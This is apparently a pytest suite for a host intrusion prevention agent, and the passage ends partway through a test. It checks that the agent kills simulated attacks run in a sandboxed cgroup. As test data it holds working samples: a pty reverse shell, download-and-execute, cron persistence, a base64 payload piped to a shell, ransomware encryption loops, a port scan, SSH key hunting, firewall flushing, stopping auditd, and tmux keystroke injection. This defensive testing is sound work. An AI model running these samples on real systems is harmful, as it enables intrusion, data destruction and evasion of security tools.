"""Stop by default (issue 15): attacks on the host kernel, in a scoped test cgroup.

The live sensor is scoped to the test's cgroup, the behaviour pack runs with
the default settings (armed) and the dispatcher takes its responses, so a
kill can only land on the test's own processes.  Every attack here was missed
(or only reported) before the provenance model and must now be stopped:

* python ``pty.spawn`` reverse shell (socket -> pty -> shell);
* a binary fetched by a script from the network into a temp dir, then run;
* a ``#!/bin/sh`` script in a temp dir writing a cron job (in a private mount
  namespace with a tmpfs over /etc/cron.d: nothing of the host is touched);
  the same write by a shell of no untrusted provenance is alerted, not killed;
* a base64-decoded payload piped into a shell;
* ransomware outside the data directories (the test's temp dir);
* a port scan (refused connects to many distinct loopback ports) is alerted.
"""

from __future__ import annotations

import base64
import http.server
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Iterator

import pytest

from bastion.detect.behavior import behavior_rules, live_probes
from bastion.detect.engine import Engine, RuleContext
from bastion.events import HipsEvent
from bastion.enforce.svcgate_compat import CompatSocketGate
from bastion.enforce.svcgate_lsm import DEFAULT_SERVERS, SocketKind
from bastion.proctable import ProcessTable
from bastion.respond.dispatch import Dispatcher, live_children
from bastion.sensors.bpf import BpfSensor
from bastion.sensors.provenance import default_interpreters
from support.cg import scoped_cgroup


def spawn_in(cg: Path, argv: list[str], **kw: Any) -> subprocess.Popen[bytes]:
    shell = f'echo $$ > {cg}/cgroup.procs && exec "$@"'
    return subprocess.Popen(["/bin/sh", "-c", shell, "sh", *argv], **kw)


class Watch:
    """The sensor (scoped to ``cg``), the default pack and the dispatcher, on a thread;
    with ``svcgate``, the compat tier's in-kernel tmux/screen gate too (its records
    dispatched like the agent's enforcement sources)."""

    def __init__(self, cgid: int) -> None:
        self.sensor = BpfSensor(cgroup_id=cgid)
        self.procs = ProcessTable()
        self.engine = Engine(behavior_rules(probes=live_probes()))
        self.disp = Dispatcher(self.procs)
        self.alerts: list[dict[str, Any]] = []
        self.gate: CompatSocketGate | None = None
        self._stop = threading.Event()
        self._t = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        ctx = RuleContext(self.procs)
        while not self._stop.is_set():
            for ev in self.sensor.poll(0.01) or []:
                self.procs.update(ev)
                ev = self.procs.enrich(ev)
                for f in self.engine.evaluate(ev, ctx):
                    self.alerts.append(self.disp.dispatch(f, time.time_ns()).to_json())
            gate = self.gate
            for hev in gate.poll(0.0) if gate is not None else []:
                if gate is not None and (gf := gate.finding(hev)) is not None:
                    self.alerts.append(self.disp.dispatch(gf, time.time_ns()).to_json())

    def wait_for(self, pred: Any, timeout: float = 10.0) -> list[dict[str, Any]]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            got = [a for a in list(self.alerts) if pred(a)]
            if got:
                return got
            time.sleep(0.05)
        return []


@contextmanager
def watching(svcgate_dirs: list[str] | None = None) -> Iterator[tuple[Path, Watch]]:
    """``svcgate_dirs``: also load the compat tmux/screen gate, the kernel provenance of
    binaries and scripts under these dirs (the test's own) set as the agent sets /tmp's."""
    with scoped_cgroup() as (cg, cgid):
        w = Watch(cgid)
        w.sensor.open()
        try:
            if svcgate_dirs is not None:
                w.gate = open_svcgate(w.sensor, cgid, svcgate_dirs)
            w._t.start()
            try:
                yield cg, w
            finally:
                w._stop.set()
                w._t.join(5)
                assert not w.engine.errors, w.engine.disabled
        finally:
            if w.gate is not None:
                w.gate.close()
            w.sensor.close()


def open_svcgate(sensor: BpfSensor, cgid: int, dirs: list[str],
                 dry_run: bool = False) -> CompatSocketGate:
    """The compat socket gate scoped to cgroup ``cgid`` (dead-man 60 s), sharing the
    sensor's ``prov``, the installed tmux/screen executables entered."""
    prov = sensor.provenance()
    prov.set_dirs(dirs)
    assert prov.set_interpreters(default_interpreters()) >= 1
    gate = CompatSocketGate(prov, cgroup_id=cgid, deadline_s=60.0, self_tgid=os.getpid(),
                            dry_run=dry_run)
    gate.open()
    try:
        assert "tmux" not in " ".join(gate.apply_servers(DEFAULT_SERVERS))
    except BaseException:
        gate.close()
        raise
    return gate


def blocked(a: dict[str, Any]) -> bool:
    return a["action"] in ("kill", "kill-tree", "quarantine")


def reap(p: subprocess.Popen[bytes], timeout: float = 10) -> int:
    try:
        return p.wait(timeout)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()


PTY_REVSHELL = ("import os, pty, socket, sys\n"
                "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
                "pty.spawn('/bin/sh')\n")


def test_pty_spawn_reverse_shell_is_killed() -> None:
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    conn = None
    try:
        with watching() as (cg, w):
            p = spawn_in(cg, [sys.executable, "-c", PTY_REVSHELL, str(lst.getsockname()[1])])
            lst.settimeout(10)
            conn, _ = lst.accept()
            got = w.wait_for(lambda a: blocked(a) and a["rule"] == "behavior.pty_socket_shell")
            assert got, [(a["rule"], a["action"]) for a in w.alerts]
            assert got[0]["severity"] == "critical" and got[0]["evidence"].get("prevented")
            assert reap(p) == -signal.SIGKILL
    finally:
        if conn is not None:
            conn.close()
        lst.close()


FETCH = ("import sys, urllib.request\n"
         "data = urllib.request.urlopen(sys.argv[1]).read()\n"
         "open(sys.argv[2], 'wb').write(data)\n")


@contextmanager
def http_serving(root: Path) -> Iterator[int]:
    class H(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a: Any, **k: Any) -> None:
            super().__init__(*a, directory=str(root), **k)

        def log_message(self, *a: Any) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    t = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    t.start()
    try:
        yield srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


def test_binary_fetched_into_tmp_is_killed_at_exec() -> None:
    served = Path(tempfile.mkdtemp(prefix="bastion-test-srv-"))
    drop = Path(tempfile.mkdtemp(prefix="bastion-test-drop-", dir="/tmp"))
    try:
        shutil.copy("/bin/sleep", served / "payload")
        with http_serving(served) as port, watching() as (cg, w):
            target = drop / "payload"
            script = (f"{sys.executable} -c \"$0\" http://127.0.0.1:{port}/payload {target} && "
                      f"chmod +x {target} && exec {target} 20")
            p = spawn_in(cg, ["/bin/sh", "-c", script, FETCH])
            rc = reap(p, 15)
            got = [a for a in w.alerts if blocked(a) and a["rule"] == "behavior.download_execute"]
            assert rc == -signal.SIGKILL, (rc, [(a["rule"], a["action"]) for a in w.alerts])
            assert got and got[0]["evidence"].get("prevented")
    finally:
        shutil.rmtree(served)
        shutil.rmtree(drop)


def _cron_writer(cg: Path, script: Path) -> subprocess.Popen[bytes]:
    """Run ``script`` in a private mount namespace whose /etc/cron.d is a tmpfs."""
    inner = "mount -t tmpfs bastion-test /etc/cron.d && exec \"$0\" \"$@\""
    return spawn_in(cg, ["unshare", "--mount", "--propagation", "private",
                         "/bin/sh", "-c", inner, *([str(script)] if script.suffix == ".sh"
                                                   else ["/bin/sh", "-c", script.read_text()])])


def test_tmp_script_writing_a_cron_job_is_killed() -> None:
    d = Path(tempfile.mkdtemp(prefix="bastion-test-pers-", dir="/tmp"))
    try:
        s = d / "evil.sh"
        s.write_text("#!/bin/sh\nsleep 0.5\necho '* * * * * root /tmp/x' > /etc/cron.d/job\n"
                     "sleep 5\necho survived\n")
        s.chmod(0o755)
        with watching() as (cg, w):
            p = _cron_writer(cg, s)
            rc = reap(p, 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.persistence_cron"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert got[0]["severity"] == "critical"
            assert "tmp-script" in got[0]["evidence"]["provenance"]
            assert rc == -signal.SIGKILL
    finally:
        shutil.rmtree(d)


def test_same_cron_write_without_untrusted_provenance_is_alerted_not_killed() -> None:
    d = Path(tempfile.mkdtemp(prefix="bastion-test-pers-"))
    try:
        s = d / "admin.cmd"      # not a temp-dir script: run as `sh -c <text>`
        s.write_text("echo '* * * * * root /bin/true' > /etc/cron.d/job; sleep 1; echo ok")
        with watching() as (cg, w):
            p = _cron_writer(cg, s)
            assert reap(p, 15) == 0
            got = w.wait_for(lambda a: a["rule"] == "behavior.persistence_cron", 3)
            assert got and got[0]["action"] == "alert" and got[0]["severity"] == "high"
    finally:
        shutil.rmtree(d)


def test_decoded_payload_into_a_shell_is_killed() -> None:
    d = Path(tempfile.mkdtemp(prefix="bastion-test-b64-"))
    try:
        marker = d / "ran"
        payload = base64.b64encode(f"sleep 5; touch {marker}\n".encode()).decode()
        with watching() as (cg, w):
            p = spawn_in(cg, ["/bin/sh", "-c", f"echo {payload} | base64 -d | sh"])
            reap(p, 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.decoded_payload_shell"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert not marker.exists()
    finally:
        shutil.rmtree(d)


RANSOM = ("import os, sys\n"
          "root = sys.argv[1]\n"
          "for n in sorted(os.listdir(root)):\n"
          "    p = os.path.join(root, n)\n"
          "    data = open(p, 'rb').read()\n"
          "    with open(p, 'r+b') as f:\n"
          "        f.write(os.urandom(len(data)))\n"
          "    os.rename(p, p + '.locked')\n"
          "    __import__('time').sleep(0.02)\n")


def test_ransomware_outside_the_data_directories_is_killed() -> None:
    d = Path(tempfile.mkdtemp(prefix="bastion-test-ransom-", dir="/var/tmp"))
    try:
        for i in range(200):
            (d / f"doc{i:03}.txt").write_text(f"quarterly report {i}\n" * 400)
        with watching() as (cg, w):
            p = spawn_in(cg, [sys.executable, "-c", RANSOM, str(d)])
            rc = reap(p, 30)
            got = [a for a in w.alerts if a["rule"] == "behavior.ransomware"]
            assert got and got[0]["action"] == "kill-tree", [(a["rule"], a["action"]) for a in w.alerts]
            assert rc == -signal.SIGKILL
            assert len(list(d.glob("*.locked"))) < 200
    finally:
        shutil.rmtree(d)


SKIP_HEAD = ("import os, sys, time\n"
             "root = sys.argv[1]\n"
             "for n in sorted(os.listdir(root)):\n"
             "    p = os.path.join(root, n)\n"
             "    size = os.path.getsize(p)\n"
             "    with open(p, 'r+b') as f:\n"
             "        f.seek(4096)\n"                      # the head left in plaintext
             "        f.write(os.urandom(size - 4096))\n"
             "    time.sleep(0.02)\n")


def test_ransomware_that_skips_the_first_4k_is_killed() -> None:
    """s18-ransom: LockBit/BlackCat-style partial encryption, in place, no rename: every
    file's first 4 KiB left as they were, the rest encrypted.  The probe read only the
    head (plaintext) and judged the content not encrypted; it now reads several windows."""
    d = Path(tempfile.mkdtemp(prefix="bastion-test-skiphead-", dir="/var/tmp"))
    try:
        for i in range(200):
            (d / f"doc{i:03}.odt").write_text(f"quarterly report {i}\n" * 3000)
        with watching() as (cg, w):
            p = spawn_in(cg, [sys.executable, "-c", SKIP_HEAD, str(d)])
            rc = reap(p, 30)
            got = [a for a in w.alerts if a["rule"] == "behavior.ransomware"]
            assert got and got[0]["action"] == "kill-tree", [(a["rule"], a["action"], a["title"])
                                                             for a in w.alerts]
            assert got[0]["evidence"]["entropy_high"] >= 5
            assert rc == -signal.SIGKILL
    finally:
        shutil.rmtree(d)


SCAN = ("import socket\n"
        "for port in range(1, 400):\n"
        "    s = socket.socket(); s.settimeout(0.2)\n"
        "    try: s.connect(('127.0.0.1', 40000 + port))\n"
        "    except OSError: pass\n"
        "    s.close()\n")


def test_port_scan_is_alerted() -> None:
    with watching() as (cg, w):
        p = spawn_in(cg, [sys.executable, "-c", SCAN])
        reap(p, 30)
        got = w.wait_for(lambda a: a["rule"] == "behavior.port_scan", 5)
        assert got and got[0]["severity"] in ("medium", "high", "critical")
        assert got[0]["evidence"]["ports"] >= 25


REWRITE = ("import os, sys, time\n"
           "root = sys.argv[1]\n"
           "for i in range(200):\n"
           "    p = os.path.join(root, f'doc{i:03}.txt')\n"
           "    open(p, 'w').write(f'quarterly report {i}\\n' * 400)\n"
           "for i in range(200):\n"
           "    p = os.path.join(root, f'doc{i:03}.txt')\n"
           "    with open(p, 'r+b') as f:\n"
           "        f.write(os.urandom(4096))\n"   # intermittent: the head only, no rename
           "    time.sleep(0.02)\n")


def test_ransomware_in_another_mount_namespace_is_judged_on_its_own_files() -> None:
    """The tree encrypts in place, without renames, files that exist only in its mount
    namespace (a tmpfs over a directory whose host copy holds plaintext at the same
    paths).  The entropy probe must read the writer's files, not the host's."""
    d = Path(tempfile.mkdtemp(prefix="bastion-test-mntns-", dir="/var/tmp"))
    try:
        for i in range(200):
            (d / f"doc{i:03}.txt").write_text(f"quarterly report {i}\n" * 400)
        with watching() as (cg, w):
            inner = f'mount -t tmpfs bastion-test "{d}" && exec "$0" -c "$1" "$2"'
            p = spawn_in(cg, ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c",
                              inner, sys.executable, REWRITE, str(d)])
            rc = reap(p, 40)
            got = [a for a in w.alerts if a["rule"] == "behavior.ransomware"]
            # a first look may find the newest files not yet written (the alert "Mass
            # file rewrite", s31 CI): judged on the host's plaintext it would never
            # get further; on its own files the tree is stopped
            assert any(a["action"] == "kill-tree" for a in got), \
                [(a["rule"], a["action"], a["title"]) for a in w.alerts]
            assert rc == -signal.SIGKILL
    finally:
        shutil.rmtree(d)


def test_tmp_script_hunting_for_private_keys_is_stopped() -> None:
    """A script in /tmp searching for private keys by name (the first step of T1552.004):
    its tree is stopped before the copy of what it found."""
    d = Path(tempfile.mkdtemp(prefix="bastion-test-hunt-", dir="/tmp"))
    try:
        (d / "home" / ".ssh").mkdir(parents=True)
        (d / "home" / ".ssh" / "id_rsa").write_text("not a real key\n")
        s = d / "hunt.sh"
        s.write_text(f"#!/bin/sh\nfind {d}/home -name id_rsa > {d}/found\nsleep 5\n"
                     f"cp $(cat {d}/found) {d}/loot\n")
        with watching() as (cg, w):
            p = spawn_in(cg, ["/bin/sh", str(s)], stdin=subprocess.DEVNULL)
            rc = reap(p, 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.secret_hunt"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert got[0]["severity"] == "critical"
            assert "tmp-script" in got[0]["evidence"]["provenance"]
            assert rc == -signal.SIGKILL
            assert not (d / "loot").exists()
    finally:
        shutil.rmtree(d)


def _in_netns(cg: Path, argv: list[str]) -> subprocess.Popen[bytes]:
    # a private network namespace: the flush empties its (empty) tables, not the host's
    return spawn_in(cg, ["unshare", "--net", *argv], stdin=subprocess.DEVNULL)


def test_tmp_script_flushing_the_firewall_is_stopped() -> None:
    """A script in /tmp flushing the firewall (T1562.004, a security tool shut down):
    the tree is stopped; run in a private network namespace."""
    if shutil.which("iptables") is None:
        pytest.skip("iptables is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-fw-", dir="/tmp"))
    try:
        s = d / "fw.sh"
        s.write_text(f"#!/bin/sh\niptables -F\nsleep 5\ntouch {d}/after\n")
        with watching() as (cg, w):
            rc = reap(_in_netns(cg, ["/bin/sh", str(s)]), 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.firewall_tamper"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert got[0]["severity"] == "critical"
            assert "tmp-script" in got[0]["evidence"]["provenance"]
            assert rc == -signal.SIGKILL and not (d / "after").exists()
    finally:
        shutil.rmtree(d)


def test_same_firewall_flush_without_untrusted_provenance_is_alerted_not_killed() -> None:
    if shutil.which("iptables") is None:
        pytest.skip("iptables is not installed")
    with watching() as (cg, w):
        assert reap(_in_netns(cg, ["/bin/sh", "-c", "iptables -F; sleep 1; true"]), 15) == 0
        got = w.wait_for(lambda a: a["rule"] == "behavior.firewall_tamper", 3)
        assert got and got[0]["action"] == "alert" and got[0]["severity"] == "high"


def _no_service_manager(cg: Path, script: Path) -> subprocess.Popen[bytes]:
    """Run ``script`` where no service manager can be reached: a private mount namespace
    with tmpfs over /run/systemd and /run/dbus (the commands also name ``--root`` of a
    directory that does not exist: nothing of the host is ever stopped)."""
    inner = ("for d in /run/systemd /run/dbus; do [ -d $d ] && mount -t tmpfs bastion-test $d; "
             "done; exec \"$0\" \"$@\"")
    return spawn_in(cg, ["unshare", "--mount", "--propagation", "private", "/bin/sh", "-c",
                         inner, "/bin/sh", str(script)], stdin=subprocess.DEVNULL)


def test_tmp_script_laundering_a_service_stop_through_systemd_run_is_stopped() -> None:
    """``systemd-run --wait systemctl stop auditd`` from a /tmp script (s15-svc): PID 1
    would run the stop for a clean tree, so the launderer itself is the act.  Before:
    nothing (the matcher knew systemctl and service only), the script ran on."""
    if shutil.which("systemd-run") is None:
        pytest.skip("systemd-run is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-svc-", dir="/tmp"))
    try:
        s = d / "svc.sh"
        s.write_text(f"#!/bin/sh\nsystemd-run --wait --quiet systemctl --root={d}/none stop "
                     f"auditd.service 2>/dev/null\nsleep 5\ntouch {d}/after\n")
        with watching() as (cg, w):
            rc = reap(_no_service_manager(cg, s), 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.disable_security_tools"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert got[0]["severity"] == "critical"
            assert got[0]["evidence"]["target"] == "auditd"
            assert "tmp-script" in got[0]["evidence"]["provenance"]
            assert rc == -signal.SIGKILL and not (d / "after").exists()
    finally:
        shutil.rmtree(d)


def test_tmp_script_flushing_the_firewall_with_bundled_options_is_stopped() -> None:
    """``iptables -t filter -vF`` (the flush bundled with another option, s15-svc): the
    substring matcher looked for a word ``-F`` and missed it; the tree ran on."""
    if shutil.which("iptables") is None:
        pytest.skip("iptables is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-fw-", dir="/tmp"))
    try:
        s = d / "fw.sh"
        s.write_text(f"#!/bin/sh\niptables -t filter -vF >/dev/null\nsleep 5\ntouch {d}/after\n")
        with watching() as (cg, w):
            rc = reap(_in_netns(cg, ["/bin/sh", str(s)]), 15)
            got = [a for a in w.alerts if a["rule"] == "behavior.firewall_tamper"]
            assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
            assert rc == -signal.SIGKILL and not (d / "after").exists()
    finally:
        shutil.rmtree(d)


@contextmanager
def _clean_tmux(d: Path) -> Iterator[Path]:
    """A tmux server started cleanly by the test (outside the sensor's cgroup) on its own
    socket ``d/sock``, one session running ``sh``; killed at the end."""
    sock = d / "sock"
    env = {"PATH": "/usr/bin:/bin", "TERM": "xterm", "HOME": str(d), "SHELL": "/bin/sh"}
    subprocess.run(["tmux", "-S", str(sock), "-f", "/dev/null", "new-session", "-d", "-s", "adm",
                    "/bin/sh"], env=env, check=True, timeout=10)
    try:
        yield sock
    finally:
        subprocess.run(["tmux", "-S", str(sock), "kill-server"], env=env, timeout=10,
                       stderr=subprocess.DEVNULL)


def _typed(sock: Path, d: Path, name: str) -> bool:
    """Did the clean session's pane run ``touch d/name``?  Asked after a probe the test
    types itself (keys are run in order): once ``d/probe-N`` exists, everything typed
    before it has run."""
    probe = d / f"probe-{time.monotonic_ns()}"
    env = {"PATH": "/usr/bin:/bin", "TERM": "xterm", "HOME": str(d)}
    subprocess.run(["tmux", "-S", str(sock), "send-keys", "-t", "adm", f"touch {probe}", "Enter"],
                   env=env, check=True, timeout=10)
    deadline = time.monotonic() + 10
    while not probe.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert probe.exists(), "the clean session runs nothing: the check cannot tell"
    return (d / name).exists()


def test_tmp_script_typing_into_a_clean_tmux_session_is_stopped() -> None:
    """A /tmp script makes the administrator's (clean) tmux server type a command into
    its session (s18): the server's shell would run it in a clean tree.  The script's
    tree is stopped at tmux's exec and alerted critical.  Before s18: nothing (tmux not
    read), the script ran on.  Before s19 the pane ran the command every time: on compat
    the exec-time kill comes from user space ~30 ms after tmux's exec, the client's whole
    run takes ~2 ms.  Now the compat gate (svcgate_compat.bpf.c) kills the client in the
    kernel on its connect's return: nothing is sent, the pane runs nothing."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-tmux-", dir="/tmp"))
    try:
        with _clean_tmux(d) as sock:
            s = d / "l.sh"
            s.write_text(f"#!/bin/sh\ntmux -S {sock} send-keys -t adm 'touch {d}/ran' Enter\n"
                         f"sleep 5\ntouch {d}/after\n")
            with watching([str(d)]) as (cg, w):
                t0 = time.monotonic()
                rc = reap(spawn_in(cg, ["/bin/sh", str(s)], stdin=subprocess.DEVNULL), 15)
                took = time.monotonic() - t0
                got = [a for a in w.alerts if a["rule"] == "behavior.launder_via_daemon"]
                assert got and blocked(got[0]), [(a["rule"], a["action"]) for a in w.alerts]
                assert got[0]["severity"] == "critical" and got[0]["action"] == "kill-tree"
                assert got[0]["evidence"]["act"] == "send-keys"
                assert got[0]["evidence"]["identity"] == "installed file"
                assert "tmp-script" in got[0]["evidence"]["provenance"]
                assert rc == -signal.SIGKILL and took < 5 and not (d / "after").exists()
                kg = w.wait_for(lambda a: a.get("enforced_by") == "connect-kill", 5)
                assert kg, [(a["rule"], a["action"]) for a in w.alerts]
                assert (kg[0]["rule"], kg[0]["action"], kg[0]["severity"]) == (
                    "bastion.provenance.gate", "kill-tree", "critical"), kg[0]
                assert kg[0]["evidence"]["socket"] == "tmux"
                assert kg[0]["evidence"]["object"] == str(sock)
                assert "tmp-script" in kg[0]["evidence"]["provenance"]
            ran = _typed(sock, d, "ran")
            print(f"tmux send-keys from a /tmp script: tree killed after {took * 1000:.0f} ms; "
                  f"the pane ran the command: {ran}")
            assert not ran, "the tmux client's command reached the clean server"
    finally:
        shutil.rmtree(d)


@contextmanager
def _gate_only(d: Path, dry_run: bool = False) -> Iterator[tuple[Path, CompatSocketGate]]:
    """The event sensor (exec class: it keeps ``prov``) and the compat socket gate,
    scoped to a fresh cgroup, with no rules: what the kernel alone does."""
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
        sensor.open()
        try:
            gate = open_svcgate(sensor, cgid, [str(d)], dry_run=dry_run)
            try:
                yield cg, gate
            finally:
                gate.close()
        finally:
            sensor.close()


def _records(gate: CompatSocketGate, n: int, timeout: float = 3.0) -> list[HipsEvent]:
    out: list[HipsEvent] = []
    deadline = time.monotonic() + timeout
    while len(out) < n and time.monotonic() < deadline:
        out += gate.poll(0.05)
    return out


def test_compat_tmux_gate_kills_a_tainted_client_at_connect_not_a_clean_tree_or_its_own_server() -> None:
    """The compat gate alone (no rules): a /tmp script's tmux client (and a nonblocking
    Python connect: a unix stream connect is done when it returns 0, there is no
    EINPROGRESS) is SIGKILLed at its connect to a clean server, one record each, and the
    pane runs nothing; the administrator's own tmux (a clean tree) types; a /tmp script's
    own tmux server (listened while tainted) is its to use.  Failed before: no gate, the
    pane ran the command and the client exited 0."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-tmux-", dir="/tmp"))
    try:
        with _clean_tmux(d) as sock, _gate_only(d) as (cg, gate):
            env = {"PATH": "/usr/bin:/bin", "TERM": "xterm", "HOME": str(d)}
            # a clean tree in scope: typed, no record
            r = subprocess.run(["/bin/sh", "-c", f'echo $$ > {cg}/cgroup.procs && exec tmux -S {sock} '
                                f"send-keys -t adm 'touch {d}/clean' Enter"], env=env, timeout=10)
            assert r.returncode == 0 and _typed(sock, d, "clean")
            # a tainted tree: the client dies at its connect (128 + 9), nothing typed
            s = d / "l.sh"
            s.write_text(f"#!/bin/sh\ntmux -S {sock} send-keys -t adm 'touch {d}/ran' Enter\n"
                         f"echo $? > {d}/rc\n"
                         f"python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
                         f"s.setblocking(False); s.connect(\"{sock}\"); s.send(b\"x\")'\n"
                         f"echo $? > {d}/rc2\n")
            r = subprocess.run(["/bin/sh", "-c", f'echo $$ > {cg}/cgroup.procs && exec /bin/sh {s}'],
                               env=env, timeout=10)
            assert r.returncode == 0
            assert (d / "rc").read_text().strip() == "137", "the tmux client was not killed"
            assert (d / "rc2").read_text().strip() == "137", "the nonblocking connect was not killed"
            assert not _typed(sock, d, "ran")
            recs = _records(gate, 2)
            assert [(e.action, e.enforced, e.mechanism, e.path) for e in recs] == [
                ("kill", True, "connect-kill", str(sock))] * 2, recs
            assert [e.proc.comm.split(":")[0] for e in recs] == ["tmux", "python3"]
            f = gate.finding(recs[0])
            assert f is not None and f.action == "kill-tree" and f.enforced_by == "connect-kill"
            assert f.evidence["socket"] == "tmux" and "tmp-script" in f.evidence["provenance"]
            # the tainted tree's own server: it listened tainted, its clients are its own
            own = d / "own"
            o = d / "own.sh"
            o.write_text(f"#!/bin/sh\ntmux -S {own} -f /dev/null new-session -d -s t /bin/sh || exit 3\n"
                         f"tmux -S {own} send-keys -t t 'touch {d}/own-ran' Enter || exit 4\n"
                         f"i=0; while [ ! -e {d}/own-ran ] && [ $i -lt 200 ]; do sleep 0.02; i=$((i+1)); done\n"
                         f"tmux -S {own} kill-server\n")
            r = subprocess.run(["/bin/sh", "-c", f'echo $$ > {cg}/cgroup.procs && exec /bin/sh {o}'],
                               env=env, timeout=15)
            assert r.returncode == 0 and (d / "own-ran").exists(), r.returncode
            assert _records(gate, 1, 0.3) == []
            assert gate.stats()["denies"] == 2
    finally:
        shutil.rmtree(d)


def test_compat_tmux_gate_judges_a_connect_whose_descriptor_was_swapped_in() -> None:
    """s19-gatefix: a tainted process connect()s a descriptor that is /dev/null or a
    datagram socket at sys_enter_connect while its other thread dup2()s a fresh unix
    stream socket onto it (and back), a new stream socket per attempt, to the clean
    tmux server, for up to 3 s; the tree forks a new racer when one is killed.  Every
    connect that returns 0 is killed: no racer lives with a connected socket.  Failed
    before: the entry kept nothing for a descriptor that was not a unix stream socket,
    the exit checked nothing ("connected and alive after N tries")."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-tmux-", dir="/tmp"))
    try:
        with _clean_tmux(d) as sock, _gate_only(d) as (cg, gate):
            race = d / "race.py"
            shutil.copy(Path(__file__).with_name("connect_swap_race.py"), race)
            r = subprocess.run(["/bin/sh", "-c", f'echo $$ > {cg}/cgroup.procs && exec python3 {race} '
                                f"{sock} {d}/out 3"], timeout=20, capture_output=True,
                               env={"PATH": "/usr/bin:/bin", "HOME": str(d)})
            assert r.returncode == 0, r.stderr
            won, killed = map(int, (d / "out").read_text().split())
            print(f"descriptor swap race: {killed} racers killed at a successful connect, "
                  f"{won} lived connected {r.stdout.decode().strip()}")
            assert won == 0, r.stdout.decode()
            assert killed >= 1, "no connect succeeded: the race was not run"
            recs = _records(gate, killed)
            # (a tmux record's path, the server end's bound path, is empty in some: open)
            odd = [(e.action, e.enforced, e.rule_id, e.path, e.ret) for e in recs
                   if (e.action, e.enforced) != ("kill", True)
                   or e.rule_id not in (SocketKind.TMUX, SocketKind.SWAPPED)
                   or e.path not in (str(sock), "")]
            assert len(recs) == killed and not odd, odd
            swapped = sum(e.rule_id == SocketKind.SWAPPED for e in recs)
            nopath = sum(e.rule_id == SocketKind.TMUX and not e.path for e in recs)
            print(f"records: {len(recs)}, {swapped} as a swapped descriptor, "
                  f"{nopath} tmux ones without the path")
    finally:
        shutil.rmtree(d)


@pytest.mark.xfail(strict=True, reason="left (docs/threat-model.md, s19-gatefix): the kernel "
                   "kills only the connecting client; a process it forked before the connect "
                   "sends on the shared socket before the user-space kill-tree (the in-kernel "
                   "close at write/send is not built: a program on every write)")
def test_compat_tmux_gate_a_forked_sender_on_the_shared_socket_is_too_late() -> None:
    """s19-gatefix review item 2: the tree makes the socket and forks; the child loops
    sending tmux's frames (ENOTCONN until connected); the parent connects and is killed in
    the kernel.  The finding (kill-tree, the dispatcher here as the agent's) kills the
    child right after; does the pane run the child's command?  5 rounds, the number
    printed."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-tmux-", dir="/tmp"))
    try:
        with _clean_tmux(d) as sock, _gate_only(d) as (cg, gate):
            sender = d / "sender.py"
            shutil.copy(Path(__file__).with_name("connect_fork_sender.py"), sender)
            typed = 0
            for i in range(5):
                p = spawn_in(cg, ["python3", str(sender), str(sock), "2", "send-keys", "-t",
                                  "adm", f"touch {d}/ran{i}", "Enter"],
                             stdout=subprocess.PIPE, env={"PATH": "/usr/bin:/bin", "HOME": str(d)})
                # the table as the agent's (fork events): taken while the parent waits
                # 50 ms before its connect, the child forked (after the kill it is init's)
                until = time.monotonic() + 5
                while not live_children(p.pid) and time.monotonic() < until:
                    time.sleep(0.002)
                procs = ProcessTable()
                procs.seed()
                assert [e.ppid for e in procs if e.ppid == p.pid], "no child in the table"
                recs = _records(gate, 1)
                assert [e.enforced for e in recs] == [True], recs
                f = gate.finding(recs[0])
                assert f is not None and f.action == "kill-tree"
                alert = Dispatcher(procs).dispatch(f, time.time_ns())
                assert alert.action == "kill-tree", alert
                assert reap(p) == -signal.SIGKILL and p.stdout is not None
                assert p.stdout.read() == b"", "the parent lived"
                typed += _typed(sock, d, f"ran{i}")
            print(f"forked sender on the shared socket: typed in {typed} of 5 rounds")
            assert typed == 0
    finally:
        shutil.rmtree(d)


def test_compat_tmux_gate_dry_run_reports_a_kill_it_does_not_send() -> None:
    """Dry run (the launder rule's or the pack's): the record says the client would have
    been killed, no signal is sent (the command is typed), the alert is would-kill."""
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    d = Path(tempfile.mkdtemp(prefix="bastion-test-tmux-", dir="/tmp"))
    try:
        with _clean_tmux(d) as sock, _gate_only(d, dry_run=True) as (cg, gate):
